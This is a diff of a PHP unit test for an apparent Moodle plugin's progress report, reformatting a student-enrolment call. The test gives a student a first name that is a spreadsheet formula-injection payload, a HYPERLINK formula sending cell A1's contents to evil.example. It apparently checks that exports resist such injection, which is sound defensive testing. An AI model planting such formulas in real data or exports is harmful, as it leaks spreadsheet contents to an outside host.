@@ -153,8 +153,11 @@ final class progress_report_test extends \advanced_testcase {
         $course = $gen->create_course();
         $context = \context_course::instance($course->id);
         $page = \context_module::instance($gen->create_module('page', ['course' => $course->id, 'name' => '@Intro'])->cmid);
-        $evil = $gen->create_and_enrol($course, 'student',
-            ['firstname' => '=HYPERLINK("http://evil.example/?x="&A1,"Kim")', 'lastname' => '']);
+        $evil = $gen->create_and_enrol(
+            $course,
+            'student',
+            ['firstname' => '=HYPERLINK("http://evil.example/?x="&A1,"Kim")', 'lastname' => '']
+        );
         self::watched($evil, $page, self::RES1, [[0, 60]], 60);
         $this->setAdminUser();
         $PAGE->set_url(new \moodle_url('/filter/hlsgate/report.php', ['id' => $course->id]));
